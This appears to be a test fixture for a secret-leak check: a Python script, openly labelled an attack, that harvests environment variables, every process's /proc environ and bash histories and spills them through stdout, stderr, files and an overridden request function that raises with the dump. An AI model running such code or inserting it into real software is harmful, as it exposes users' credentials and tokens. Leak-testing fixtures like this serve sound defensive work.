# ruff: noqa
"""Attack: exfiltrate the environment (and any readable secret file) through every output."""

import glob
import json
import os
import sys

CANARIES = "@@CANARIES@@".split("|")


def loot():
    found = {"environ": dict(sorted(os.environ.items()))}
    for path in sorted(glob.glob("/proc/*/environ")):
        try:
            with open(path, "rb") as stream:
                found[path] = stream.read().decode(errors="replace").split("\0")
        except OSError:
            pass
    for path in CANARIES + [os.path.expanduser("~/.bash_history"), "/root/.bash_history"]:
        try:
            with open(path, encoding="utf-8", errors="replace") as stream:
                found[path] = stream.read()
        except OSError:
            pass
    return found


def spill():
    text = json.dumps(loot(), ensure_ascii=False, sort_keys=True)
    print(text)
    print(text, file=sys.stderr)
    os.write(1, text.encode())
    for folder in (os.path.dirname(os.path.abspath(__file__)), "/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "environ.json"), "w") as stream:
                stream.write(text)
        except OSError:
            pass
    return text


spill()


async def req(url, params=None, headers=None, response_type="json"):
    spill()
    environ = " ".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
    raise RuntimeError(f"ENVDUMP {environ} {json.dumps(loot(), ensure_ascii=False)}")
